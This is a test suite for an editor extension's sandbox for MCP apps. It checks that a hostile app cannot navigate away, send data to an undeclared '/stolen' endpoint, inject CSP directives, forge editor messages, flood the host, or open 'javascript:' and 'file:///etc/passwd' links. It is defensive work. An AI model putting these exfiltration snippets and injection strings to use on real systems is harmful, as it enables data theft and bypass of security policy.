import { strict as assert } from 'node:assert';
import path from 'node:path';
import { root } from '../../../scripts/lib/paths.mjs';
import { policyOf, readCsp, withReadCsp } from '../../../src/bridge/apps/appCsp.ts';
import { DEFAULT_CALL_SETTINGS, type CallSettings } from '../../../src/calls/callSettings.ts';
import { readPermissionRules } from '../../../src/config/rules/permissionRules.ts';
import { AppBrowser, AppRig, pageThat } from '../../support/appRig.ts';
import { eventually } from '../../support/eventually.ts';
import { withStubbedEditor } from '../../support/stubbedEditor.ts';
import { GatewayRig } from '../bridge/gatewayRig.ts';

const asked: string[] = [];
const editor = { answer: undefined as string | undefined, executed: [] as unknown[], opened: [] as string[] };
const { AppQuestions } = await withStubbedEditor(
  {
    l10n: {
      t: (text: string, ...values: readonly unknown[]) =>
        text.replaceAll(/\{(\d)\}/g, (_, at: string) => String(values[Number(at)])),
    },
    env: { openExternal: async (href: string) => editor.opened.push(href) > 0 },
    commands: { executeCommand: async (...args: readonly unknown[]) => void editor.executed.push(args) },
    window: {
      showWarningMessage: async (question: string, options: { detail: string }, yes: string) => {
        asked.push(`${question}\n${options.detail}`);
        return editor.answer === 'yes' ? yes : undefined;
      },
    },
  },
  () => import('../../../src/bridge/apps/appQuestions.ts'),
);

describe('an app of a hostile server', function () {
  this.timeout(120_000);
  let rules: CallSettings['rules'] = [];
  let rig: AppRig;
  let browser: AppBrowser;

  before(async () => {
    rig = new AppRig({ ports: { calls: { settings: () => ({ ...DEFAULT_CALL_SETTINGS, rules }) } } });
    await rig.start();
    browser = await AppBrowser.launch();
  });
  beforeEach(() => {
    rules = [];
    browser.requested.length = 0;
  });
  after(async () => {
    await browser.close();
    await rig.stop();
  });

  it('An app that leads the editor, a window or itself elsewhere, with what it was given', async () => {
    const away = `${browser.origin}/stolen?`;
    const led = async (act: string): Promise<string> => {
      rig.setPage(pageThat(`const away = '${away}'; ${act}`));
      const drawn = await browser.draw(rig);
      const isGone = async (): Promise<boolean> => (await drawn.view.locator('#status').textContent()) === 'left';
      const done = async (): Promise<string | null | undefined> =>
        drawn.view
          .childFrames()[0]
          ?.locator('#done')
          .textContent({ timeout: 200 })
          .catch(() => undefined);
      const outcome = await eventually(act, async () => ((await isGone()) ? 'closed' : ((await done()) ?? undefined)));
      assert.equal(drawn.page.url(), `${browser.origin}/`);
      return outcome;
    };
    const link =
      "Object.assign(document.body.appendChild(document.createElement('a')), { target: '_top', href: away }).click();";
    const form = "Object.assign(document.body.appendChild(document.createElement('form')), { action: away }).submit();";
    assert.equal(await led("return String(window.open(away + 'window'));"), 'null');
    assert.equal(
      await led('try { window.top.location.href = away; } catch (error) { return error.name; }'),
      'SecurityError',
    );
    assert.equal(await led(`${link} await ask('ping');`), 'done');
    // Its own frame is for what it declared alone, and what it would be led to isn't the app.
    assert.equal(await led(`${form} await new Promise(() => undefined);`), 'closed');
    assert.equal(await led('location.href = away; await new Promise(() => undefined);'), 'closed');
    assert.deepEqual(browser.requested, []);
  });

  it('An app that loads from, or sends to, a site that it didn’t declare', async () => {
    rig.setPage(
      // Before anything that a policy could be put before.
      `<script>fetch('${browser.origin}/stolen?first')</script>` +
        pageThat(
          `
        const away = '${browser.origin}/stolen?';
        const loaded = (tag, set) => new Promise((resolve) => { const e = document.createElement(tag); e.onload = () => resolve('loaded'); e.onerror = () => resolve('blocked'); set(e); document.body.append(e); });
        return [
          await fetch(away + 'fetch').then(() => 'sent', () => 'blocked'),
          await loaded('img', (e) => { e.src = away + 'img'; }),
          await loaded('script', (e) => { e.src = away + 'script'; }),
          await loaded('link', (e) => { e.rel = 'stylesheet'; e.href = away + 'style'; }),
          navigator.sendBeacon(away + 'beacon', 'x') && 'queued',
          await new Promise((resolve) => { const s = new WebSocket(away.replace('http', 'ws')); s.onerror = () => resolve('blocked'); s.onopen = () => resolve('sent'); }),
        ];
      `,
          // What it says of its own policy can only be more of one.
          '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">',
        ),
      { csp: { connectDomains: ['https://api.example.com'] } },
    );
    const drawn = await browser.draw(rig);
    const done = JSON.parse(await drawn.text('done')) as readonly unknown[];
    assert.deepEqual(
      done.filter((each) => each !== 'queued' && each !== false),
      ['blocked', 'blocked', 'blocked', 'blocked', 'blocked'],
    );
    assert.deepEqual(browser.requested, []);
  });

  it('An app that declares more than sites, to end the policy or to add to it', () => {
    const hostile = [
      'https://a.example; script-src *',
      'https://a.example;connect-src *',
      'https://a.example *',
      'https://a.example,https://b.example',
      '*',
      'https:',
      'https://*',
      "'unsafe-eval'",
      "'self'",
      'https://a.example">',
      'https://a.example/?a=;b',
      'javascript:x',
      'file:///etc',
      'https://a.example\n;script-src *',
      'https://user@a.example',
      `https://${'a'.repeat(400)}.example`,
      7,
      null,
    ];
    const declared = {
      connectDomains: hostile,
      resourceDomains: hostile,
      frameDomains: hostile,
      baseUriDomains: hostile,
    };
    assert.equal(policyOf(readCsp(declared)), policyOf(readCsp({})));
    // The editor makes a policy of it, too.
    const content = { uri: 'ui://a', text: '', _meta: { ui: { csp: declared, prefersBorder: true }, other: 1 } };
    const none = { connectDomains: [], resourceDomains: [], frameDomains: [], baseUriDomains: [] };
    assert.deepEqual(withReadCsp(content), { ...content, _meta: { ui: { csp: none, prefersBorder: true }, other: 1 } });
  });

  it('An app that reads the document around it, or speaks to it as the editor', async () => {
    rig.setPage(
      pageThat(
        `
        const tried = (act) => { try { return String(act()); } catch (error) { return error.name; } };
        const forged = { type: 'open', html: '<p id="forged">', title: '', allow: 'camera' };
        parent.postMessage(forged, '*');
        parent.postMessage({ type: 'failed', why: 'forged' }, '*');
        const inner = document.createElement('iframe');
        const loaded = new Promise((resolve) => { inner.onload = resolve; });
        inner.srcdoc = '<script>for (const m of [{ type: "failed", why: "nested" }, { jsonrpc: "2.0", id: 77, method: "tools/call", params: { name: "for_app" } }]) parent.parent.postMessage(m, "*")</scr' + 'ipt>';
        document.body.append(inner);
        await loaded;
        return [tried(() => parent.document.body), tried(() => parent.acquireVsCodeApi), tried(() => localStorage.length), tried(() => document.cookie), origin];
      `,
      ),
    );
    const drawn = await browser.draw(rig);
    const done = JSON.parse(await drawn.text('done')) as readonly string[];
    assert.deepEqual(done, ['SecurityError', 'SecurityError', 'SecurityError', 'SecurityError', 'null']);
    // What comes after it has been heard after it.
    await (await drawn.app()).evaluate('ask("ping").then(() => show("pinged", "pinged"))');
    assert.equal(await drawn.text('pinged'), 'pinged');
    assert.equal(await drawn.view.locator('#status').textContent(), '');
    const told = drawn.said.flatMap((each) => (each.type === 'rpc' ? [JSON.stringify(each.message)] : []));
    assert.ok(!told.some((text) => text.includes('"id":77')));
  });

  it('An app that sends messages without end, or one without measure', async () => {
    rig.setPage(
      pageThat(
        "for (let n = 0; n < 5000; n++) send({ method: 'ui/notifications/size-changed', params: { height: n } });",
      ),
    );
    const flooding = await browser.draw(rig);
    assert.equal(await flooding.failure(), 'flood');
    assert.ok(flooding.said.length < 1_200, String(flooding.said.length));
    rig.setPage(pageThat("send({ method: 'notifications/message', params: { data: 'x'.repeat(9e6) } });"));
    assert.equal(await (await browser.draw(rig)).failure(), 'large');
    // The result stays.
    assert.equal(await flooding.view.locator('#result-text').isVisible(), true);
  });

  it('An app that is as high as it likes, or not a number', async () => {
    for (const [heights, shown] of [
      ["1e9, '9', NaN, Infinity", '4000px'],
      ['300, -5, null', '60px'],
    ]) {
      rig.setPage(
        pageThat(
          `for (const height of [${heights}]) send({ method: 'ui/notifications/size-changed', params: { height } }); await ask('ping');`,
        ),
      );
      const drawn = await browser.draw(rig);
      assert.equal(await drawn.text('done'), 'done');
      const frame = drawn.view.locator('#app iframe');
      await eventually(`a height of ${shown}`, async () =>
        (await frame.getAttribute('style'))?.includes(`height: ${shown}`),
      );
    }
  });

  it('An app that answers what it wasn’t asked, repeats ids, or sends no JSON-RPC', async () => {
    rig.setPage(
      pageThat(`
        for (const id of [0, 1, 2, -1, 1e99, 'x', null, {}]) { send({ id, result: {} }); send({ id, error: { code: 1, message: 'x' } }); }
        parent.postMessage(null, '*'); parent.postMessage('text', '*'); parent.postMessage([], '*'); parent.postMessage({ jsonrpc: '1.0', id: 5, method: 'ping' }, '*');
        send({ id: 9, method: 'tools/call', params: 'no' }); send({ id: 9, method: 'tools/call', params: { name: {} } }); send({ id: 9, method: '__proto__' }); send({ method: 7 });
        const { content } = await ask('tools/call', { name: 'for_app' });
        return [content[0].text, heard.includes(5)];
      `),
    );
    const drawn = await browser.draw(rig);
    assert.deepEqual(JSON.parse(await drawn.text('done')), ['result of for_app', false]);
  });

  it('An app that calls a tool that is for models, for nobody, denied, or another server’s', async () => {
    const server = rig.serverOf();
    const call = async (name: string): Promise<unknown> => {
      const { content, isError } = await server.call(name, {}, new AbortController().signal);
      const [block] = content as readonly { text: string }[];
      return isError === true ? `refused: ${block?.text}` : block?.text;
    };
    assert.equal(await call('for_app'), 'result of for_app');
    for (const name of ['for_model', 'for_nobody', 'mcp__tools__for_app', 'mcp__other__tool', 'toString'])
      assert.match(String(await call(name)), /^refused: The server has no tool/);
    // One policy, and a question that says who asks.
    assert.match(String(await call('write_for_app')), /^refused: /);
    assert.deepEqual(
      rig.test.questions.map(({ surface, caller }) => [surface, caller]),
      [['app', 'show']],
    );
    rules = readPermissionRules([{ tool: 'mcp__tools__for_app', action: 'deny' }], 'user').rules;
    assert.match(String(await call('for_app')), /^refused: /);
  });

  it('A model that calls a tool that is for an app, or for nobody', async () => {
    for (const surface of ['lm-tool', 'participant', 'outside', 'api', 'editor'] as const)
      for (const name of ['mcp__tools__for_app', 'mcp__tools__for_nobody'])
        await assert.rejects(
          rig.test.host.broker.call({ name, args: {}, surface, signal: new AbortController().signal }),
          /Unknown tool/,
        );
    const gateway = new GatewayRig();
    try {
      const args = [path.join(root, 'test/fixtures/servers/appTools.ts')];
      await gateway.start({ tools: { command: process.execPath, args } });
      const client = await gateway.client(undefined, 'tools');
      const call = async (name: string, meta?: object): Promise<string> =>
        JSON.stringify(await client.callTool({ name, arguments: {}, ...(meta ? { _meta: meta } : {}) } as never));
      // A call of the chat names its request; what the editor calls for an app doesn't.
      assert.match(await call('for_app'), /result of for_app/);
      assert.match(await call('for_app', { 'vscode.requestId': 'request_1' }), /Unknown tool/);
      assert.match(await call('for_nobody'), /Unknown tool/);
    } finally {
      await gateway.stop();
    }
  });

  it('A page that is none, or is 50 MB; and a tool whose page is on the web, or another server’s', async () => {
    await assert.rejects(rig.read('show_text'), /no page of type text\/html;profile=mcp-app, but text\/plain/);
    await assert.rejects(rig.read('show_huge'), /too large: 50 MB/);
    // What it names is only ever asked of its own server; and what isn't `ui:` is no page.
    await assert.rejects(rig.read('show_page_of_web'), /./);
  });

  it('An app that asks again and again, for pages of every scheme, and to put words into the chat', async () => {
    const user = new AppQuestions('serv\u202Eer');
    for (const address of [
      'javascript:alert(1)',
      'file:///etc/passwd',
      'command:x',
      'vscode://x',
      'data:text/html,x',
      '',
    ])
      assert.equal(await user.openLink(address), false);
    assert.deepEqual(asked, []);
    editor.answer = 'yes';
    assert.equal(await user.openLink('https://user@example.com/\u200b'), true);
    assert.match(asked[0] ?? '', /serv\\u\{202e\}er.*\n(?:.*\n)*.*user name/);
    assert.equal(await user.writeIntoChat('do\u200b it'), true);
    assert.deepEqual(editor.executed, [
      ['workbench.action.chat.open', { query: String.raw`do\u{200b} it`, isPartialQuery: true }],
    ]);
    editor.answer = undefined;
    for (let n = 0; n < 10; n++) assert.equal(await user.writeIntoChat('again'), false);
    assert.equal(asked.length, 5);
  });
});
